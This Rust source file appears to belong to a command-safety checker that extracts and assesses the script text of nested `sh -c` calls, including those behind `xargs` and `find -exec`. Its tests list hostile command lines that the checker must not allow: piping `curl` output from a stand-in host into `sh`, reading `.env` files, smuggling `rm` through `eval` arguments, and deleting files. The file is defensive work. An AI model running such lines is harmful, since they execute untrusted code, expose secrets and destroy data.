//! Takes the text of a shell out of the words of a command: `sh -c TEXT`, also behind `xargs` and `find -exec`.
//!
//! Where the shell is locked, everything that its text starts is locked, too, so it is judged like a line with values that are not known
//! beforehand.

use std::borrow::Cow;

use cohab_shell_state::{quote::word, shell::Shell};
use cohab_shell_syntax::{SimpleCommand, Word, parse_plain};

use super::{Context, known_names, rules::xargs};

/// Shells whose text is read by the rules of bash.
pub(super) const SHELLS: [&str; 3] = ["bash", "dash", "sh"];
/// Letters of options that only make a shell end earlier.
const PLAIN_OPTIONS: &str = "eux";
/// The stand-in of a shell that gets the names of files: it reads them.
const READER: &str = "cat";
/// The stand-in of a shell that gets any words. Its text is judged with the same words.
const LISTER: &str = "ls";
/// A variable in a text for a value that is not known beforehand.
const UNKNOWN: &str = "unknown_word";

/// Shells in the text of a shell that are followed.
pub(super) const MAX_DEPTH: usize = 2;

/// A command without its shell, and the text that the shell runs.
pub(super) struct Nested<'a> {
    /// The command with a program that reads all operands in the place of the shell.
    pub(super) command: SimpleCommand,
    pub(super) text: Cow<'a, str>,
}

/// A shell in the words of a command.
struct Found<'a> {
    /// The number of the word that is the shell.
    at: usize,
    /// Stands for what `xargs` or `find` has found.
    placeholder: Option<&'a str>,
    text: &'a Word,
}

/// The shell with a text in these words, if there is one.
fn shell_in<'a>(words: &'a [Word]) -> Option<Found<'a>> {
    let (at, placeholder) = match words.first()?.text.as_str() {
        "find" => (words.iter().position(|word| word.text == "-exec")? + 1, Some("{}")),
        "xargs" => {
            let (at, placeholder) = xargs::command_of(&words[1..])?;
            (at + 1, placeholder)
        }
        _ => (0, None),
    };
    let [shell, option, text, ..] = words.get(at..)? else { return None };
    // A name that is put into the text would be read as code.
    let is_filled = placeholder.is_some_and(|placeholder| text.text.contains(placeholder));
    let is_read = SHELLS.contains(&shell.text.as_str()) && is_text_option(&option.text) && !text.has_glob && !is_filled;
    is_read.then_some(Found { at, placeholder, text })
}

/// The commands that a text runs; none if it is not read.
pub(super) fn commands_of(text: &str) -> Vec<SimpleCommand> {
    parse_plain(&known_names::reading(Shell::Bash, text).text).unwrap_or_default()
}

/// The names of the programs in the text of a shell in these words.
pub(super) fn programs_run(words: &[Word]) -> Vec<String> {
    let Some(Found { text, .. }) = shell_in(words) else { return Vec::new() };
    let commands = commands_of(&with_unknown(&text.text)).into_iter();
    commands.filter_map(|command| command.words.into_iter().next()).map(|name| name.text).collect()
}

/// Takes the text out; `None` if the command starts no shell with a text, or nothing would confine it.
pub(super) fn taken_apart<'a>(command: &'a SimpleCommand, context: Context<'_>) -> Option<Nested<'a>> {
    let words = &command.words;
    let name = words.first().filter(|name| context.confines(&name.text))?;
    let Found { at, placeholder, text } = shell_in(words)?;
    let text = with_unknown(&text.text);
    let is_shell = |word: &Word| word.text == "_" || SHELLS.contains(&word.text.as_str());
    if at == 0 && words[3..].iter().all(is_shell) {
        let nothing = Word { text: "true".to_owned(), is_bare: true, ..Word::default() };
        return Some(Nested { command: SimpleCommand { words: vec![nothing], ..command.clone() }, text });
    }
    let stand_in = if name.text == "xargs" { LISTER } else { READER };
    let reader = Word { text: stand_in.to_owned(), is_bare: true, ..Word::default() };
    // The first operand is the name that the shell has.
    let rest = &words[at + 3..];
    let rest = &rest[usize::from(rest.first().is_some_and(is_shell))..];
    let mut stand_in: Vec<Word> = [&words[..at], &[reader], rest].concat();
    if let Some(placeholder) = placeholder.filter(|placeholder| !rest.iter().any(|word| word.text == *placeholder)) {
        stand_in.insert(at + 1, Word { text: placeholder.to_owned(), is_bare: true, ..Word::default() });
    }
    Some(Nested { command: SimpleCommand { words: stand_in, ..command.clone() }, text })
}

/// The text with a variable of any value in the place of the parameters that the shell is given.
fn with_unknown(text: &str) -> Cow<'_, str> {
    let value = format!("${UNKNOWN}");
    let mut given = String::with_capacity(text.len());
    let mut rest = text;
    let (mut is_literal, mut is_double) = (false, false);
    while let Some(next) = rest.chars().next() {
        let parameter = ["$", "${"].into_iter().find_map(|start| {
            let name = rest.strip_prefix(start)?;
            name.starts_with(|sign: char| sign.is_ascii_digit() || matches!(sign, '@' | '*')).then_some(start)
        });
        if let Some(start) = parameter.filter(|_| !is_literal) {
            given.push_str(start);
            given.push_str(UNKNOWN);
            rest = &rest[start.len() + 1..];
        } else {
            is_literal ^= next == '\'' && !is_double;
            is_double ^= next == '"' && !is_literal;
            given.push(next);
            rest = &rest[next.len_utf8()..];
        }
    }
    let given = with_all_parameters(given, &value);
    if given == text {
        return text.into();
    }
    let body = given.trim_end_matches([';', ' ', '\n']);
    format!("while read -r {UNKNOWN}; do {body}; done < /dev/null").into()
}

/// The text with the parameters written out in `for f; do`, which stands for all of them.
fn with_all_parameters(text: String, value: &str) -> String {
    let is_name =
        |name: &str| !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    match text.strip_prefix("for ").and_then(|rest| rest.split_once("do")) {
        Some((head, _)) if is_name(head.trim_end_matches([' ', ';'])) => {
            let name = head.trim_end_matches([' ', ';']);
            format!("for {name} in {value}; do{}", &text["for ".len() + head.len() + "do".len()..])
        }
        _ => text,
    }
}

/// The command as a plain line.
pub(super) fn line_of(command: &SimpleCommand) -> String {
    command.words.iter().map(|found| word(&found.text)).collect::<Vec<_>>().join(" ")
}

fn is_text_option(option: &str) -> bool {
    option
        .strip_prefix('-')
        .and_then(|letters| letters.strip_suffix('c'))
        .is_some_and(|letters| letters.chars().all(|letter| PLAIN_OPTIONS.contains(letter)))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::super::{Context, Level, Lock, assess_line};

    fn level(line: &str, lock: Option<Lock<'static>>) -> Level {
        let context = Context::new(Path::new("/home/ann/work/app"), Path::new("/home/ann"));
        assess_line(line, Context { lock, ..context }).level
    }

    #[test]
    fn a_shell_that_only_reads_runs_unasked_behind_the_lock() {
        for line in [
            "bash -c 'ls -l | head -n 3'",
            "sh -c 'for f in *.md; do wc -l \"$f\"; done'",
            "find . -name pom.xml | xargs -I{} sh -c 'echo \"$1\"; grep -m1 \"<version>\" \"$1\"' _ {}",
            "find . -name '*.json' -print0 | xargs -0 -n1 sh -c 'jq empty \"$0\" 2>/dev/null || echo \"bad: $0\"'",
            "find . -type f -name '*.csv' -exec sh -c 'echo \"$1 $(head -n 1 \"$1\" | md5sum | cut -c1-8)\"' _ {} \\;",
            "find src -type f -name '*.ts' -exec sh -c 'for f; do grep -q only \"$f\" && echo \"$f\"; done' _ {} +",
            "seq 1 20 | xargs -n1 sh -c 'test -f reports/$0.pdf || echo \"$0 missing\"'",
        ] {
            assert_eq!(level(line, Some(Lock::UNNAMED)), Level::Allow, "{line}");
            assert_ne!(level(line, None), Level::Allow, "{line}");
        }
    }

    #[test]
    fn what_such_a_shell_does_counts() {
        for line in [
            "bash -c 'rm a'",
            "sh -c 'echo x > a'",
            "bash -c 'bash -c \"rm a\"'",
            "bash -c 'docker ps'",
            "bash -c 'cat .env'",
            "bash -c \"cat $FILE\"",
            "bash -c '$0' rm",
            "bash -c 'eval \"$1\"' _ 'rm a'",
            "bash -lc ls",
            "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
            "find . -name a -delete -exec sh -c 'echo \"$1\"' _ {} \\;",
            "find . -exec sh -c 'echo \"$1\"' _ {} \\; -exec rm {} \\;",
            "ls | xargs -I{} sh -c '{}'",
            "ls | xargs -I{} sh -c 'echo {}'",
            "find . -exec sh -c 'echo {}' \\;",
            "bash -c 'cat \"$0\"' .env",
            "ls | xargs -I{} sh -c 'echo x > {}'",
            "xargs -a list sh -c 'echo $0'",
            "curl -s https://example.invalid | sh",
            "echo ls | sh",
            "cat a | sh -c 'sh'",
        ] {
            assert_ne!(level(line, Some(Lock::UNNAMED)), Level::Allow, "{line}");
        }
    }

    #[test]
    fn deep_nesting_ends() {
        let deep = (0..30).fold("ls".to_owned(), |inner, _| {
            format!("bash -c {}", super::word(&inner)).chars().take(60_000).collect()
        });
        assert_ne!(level(&deep, Some(Lock::UNNAMED)), Level::Allow);
    }
}
